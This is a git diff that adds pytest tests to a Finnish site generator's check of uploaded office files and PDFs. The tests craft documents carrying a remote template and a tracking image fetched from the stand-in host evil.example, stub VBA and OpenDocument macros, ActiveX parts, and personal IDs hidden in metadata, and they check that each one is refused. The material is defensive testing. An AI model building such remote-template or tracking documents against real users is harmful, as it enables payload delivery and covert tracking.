@@ -10,7 +10,7 @@ import pytest
 import yaml
 
 from conftest import REPO, build_site, copy_project, serve_directory
-from material_files import MATERIAL_TYPES, document_bytes, write_document
+from material_files import MATERIAL_TYPES, document_bytes, pdf_bytes, write_document
 from materials_fixture import (
     DOCUMENT_QUERY, DOCUMENT_WORD, DOCUMENTS, FORMS_QUERY, FORMS_WORD, OUTPUT_ID, add_fixture,
 )
@@ -435,3 +435,161 @@ def test_the_output_page_with_materials_is_valid_html(fixture_site):
     ours = [m for m in errors if not any(re.search(e["message"], m["message"]) and re.search(e["element"], m.get("extract", ""))
                                          for e in allowed_errors())]
     assert not ours, ours
+
+
+# --- What office files and PDFs may not carry, and what else is read -----------------------------
+
+
+def _rezipped(kind: str, name: str, change=lambda part, data: data, add: dict[str, bytes] | None = None) -> bytes:
+    """The fixture's document `name` with its parts changed by `change` and the parts `add` added."""
+    import io
+    import zipfile
+
+    original = io.BytesIO(document_bytes(kind, DOCUMENTS[name][1]))
+    changed = io.BytesIO()
+    with zipfile.ZipFile(original) as source, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            target.writestr(item, change(item.filename, source.read(item.filename)))
+        for part, data in (add or {}).items():
+            target.writestr(part, data)
+    return changed.getvalue()
+
+
+_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_REMOTE_TEMPLATE = (
+    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+    f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+    f'Type="{_RELATIONSHIPS}/attachedTemplate" Target="https://evil.example/malli.dotm" TargetMode="External"/>'
+    f"</Relationships>"
+).encode()
+
+
+def _with_attached_template(part: str, data: bytes) -> bytes:
+    if part == "word/settings.xml":
+        return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
+    return data
+
+
+@pytest.mark.parametrize("case", ["remote-template", "macros", "macro-content-type", "external-picture", "activex"])
+def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content, case):
+    """A template fetched from the network or macros run when the file is opened."""
+    name, kind = "koe/ohje.docx", "docx"
+    if case == "remote-template":
+        data = _rezipped(kind, name, _with_attached_template, {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})
+    elif case == "macros":
+        data = _rezipped(kind, name, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64})
+    elif case == "macro-content-type":
+        data = _rezipped(kind, name, lambda part, data: data.replace(
+            b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml") if part == "[Content_Types].xml" else data)
+    elif case == "external-picture":
+        name, kind = "koe/koulutus.pptx", "pptx"
+        relationship = (f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/image" Target="https://evil.example/seuranta.png" '
+                        'TargetMode="External"/></Relationships>').encode()
+        data = _rezipped(kind, name, lambda part, data: data.replace(b"</Relationships>", relationship)
+                         if part == "ppt/slides/_rels/slide1.xml.rels" else data)
+    else:
+        name, kind = "koe/kysely.xlsx", "xlsx"
+        data = _rezipped(kind, name, add={"xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="{8BD21D40}"/>'})
+    (fixture_content / "aineistot" / name).write_bytes(data)
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert f"roadmap/aineistot/{name}" in problem.message and "tallenna tiedosto uudelleen" in problem.message
+
+
+def test_a_hyperlink_out_of_an_office_file_is_no_remote_part(fixture_content):
+    relationship = (f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/hyperlink" Target="https://www.example.org/malli" '
+                    'TargetMode="External"/></Relationships>').encode()
+    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(_rezipped(
+        "docx", "koe/ohje.docx",
+        lambda part, data: data.replace(b"</Relationships>", relationship) if part == "word/_rels/document.xml.rels" else data))
+    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/ohje.docx"]
+
+
+@pytest.mark.parametrize("case", ["basic", "event"])
+def test_an_opendocument_file_with_macros_is_refused(fixture_content, case):
+    name = "koe/malli.odt"
+    if case == "basic":
+        data = _rezipped("odt", name, add={"Basic/Standard/Module1.xml": b'<script:module xmlns:script="urn:x">Sub Main</script:module>'})
+    else:
+        listener = (b'<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
+                    b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
+                    b"</office:event-listeners>")
+        data = _rezipped("odt", name, lambda part, data: data.replace(b"<office:text>", b"<office:text>" + listener, 1)
+                         if part == "content.xml" else data)
+    (fixture_content / "aineistot" / name).write_bytes(data)
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert f"roadmap/aineistot/{name}" in problem.message and "makro" in problem.message
+
+
+def test_an_office_part_in_another_encoding_is_read(fixture_content):
+    """An XML part in UTF-16 is read in the encoding it declares, not skipped."""
+    item = f'<?xml version="1.0" encoding="UTF-16"?><asiakas>Matti {HETU}</asiakas>'.encode("utf-16")
+    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(
+        _rezipped("docx", "koe/ohje.docx", add={"customXml/item9.xml": item}))
+    assert "roadmap/aineistot/koe/ohje.docx" in _one(_problems(fixture_content), "sensitive").message
+
+
+@pytest.mark.parametrize("case", ["nested-document", "unknown-binary"])
+def test_an_office_part_the_check_cannot_read_is_refused(fixture_content, case):
+    """A spreadsheet embedded in a document, or any part that is neither text nor a known picture."""
+    if case == "nested-document":
+        part, data = "word/embeddings/Microsoft_Excel_Worksheet.xlsx", document_bytes("xlsx", [f"Asiakas {HETU}"])
+    else:
+        part, data = "word/tiedot.dat", b"\x00\x01\x02" + f"Asiakas {HETU}".encode("utf-16-le")[:9] + b"\x03"
+    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(_rezipped("docx", "koe/ohje.docx", add={part: data}))
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and part in problem.message
+
+
+def test_the_fixtures_office_files_hold_no_part_that_is_refused():
+    """The parts office programs write (thumbnails, printer settings, LibreOffice's folders) pass."""
+    from tiekartta.model.materials import _office_unshown
+
+    for name, (kind, lines) in DOCUMENTS.items():
+        if kind not in ("pdf", "txt"):
+            assert _office_unshown(document_bytes(kind, lines))[1] is None, name
+
+
+@pytest.mark.parametrize("case", ["comment", "private-data", "form"])
+def test_what_a_pdf_hides_outside_its_strings_is_checked(fixture_content, case):
+    """A comment line and the data of a stream no page shows (here an application's private data
+    named from the catalog's /PieceInfo, and a form no page draws) are published in the file too."""
+    lines = DOCUMENTS["koe/malli.pdf"][1]
+    if case == "comment":
+        data = pdf_bytes(lines, comment=f"Poistettu: Matti {HETU}".encode())
+    else:
+        stream = (f"Asiakas {HETU}" if case == "private-data" else f"BT /F1 12 Tf (Asiakas {HETU}) Tj ET").encode()
+        kind = b"" if case == "private-data" else b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
+        data = pdf_bytes(lines, catalog=b"/PieceInfo << /Muistio << /Private 6 0 R >> >> ",
+                         extra=(b"<< " + kind + b"/Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",))
+    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(data)
+    problem = _one(_problems(fixture_content), "sensitive")
+    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message
+
+
+@pytest.mark.parametrize("case", ["office-png", "office-jpeg-tail", "pdf-jpeg"])
+def test_the_metadata_of_a_picture_inside_a_document_is_checked(fixture_content, case):
+    """A picture's text (a PNG's text chunk, a JPEG's comment) and data after its end are published in the document."""
+    import io
+
+    from PIL import Image, PngImagePlugin
+
+    out = io.BytesIO()
+    if case == "office-png":
+        info = PngImagePlugin.PngInfo()
+        info.add_text("Description", f"Asiakas {HETU}")
+        Image.new("RGB", (2, 2)).save(out, format="PNG", pnginfo=info)
+    else:
+        Image.new("RGB", (2, 2)).save(out, format="JPEG", comment=f"Asiakas {HETU}" if case == "pdf-jpeg" else "")
+        if case == "office-jpeg-tail":
+            out.write(f"Asiakas {HETU}".encode())
+    if case == "pdf-jpeg":
+        name = "koe/malli.pdf"
+        picture = out.getvalue()
+        data = pdf_bytes(DOCUMENTS[name][1], extra=(
+            b"<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
+            b"/Filter /DCTDecode /Length " + str(len(picture)).encode() + b" >>\nstream\n" + picture + b"\nendstream",))
+    else:
+        name = "koe/ohje.docx"
+        data = _rezipped("docx", name, add={"word/media/image9." + ("png" if case == "office-png" else "jpeg"): out.getvalue()})
+    (fixture_content / "aineistot" / name).write_bytes(data)
+    assert f"roadmap/aineistot/{name}" in _one(_problems(fixture_content), "sensitive").message
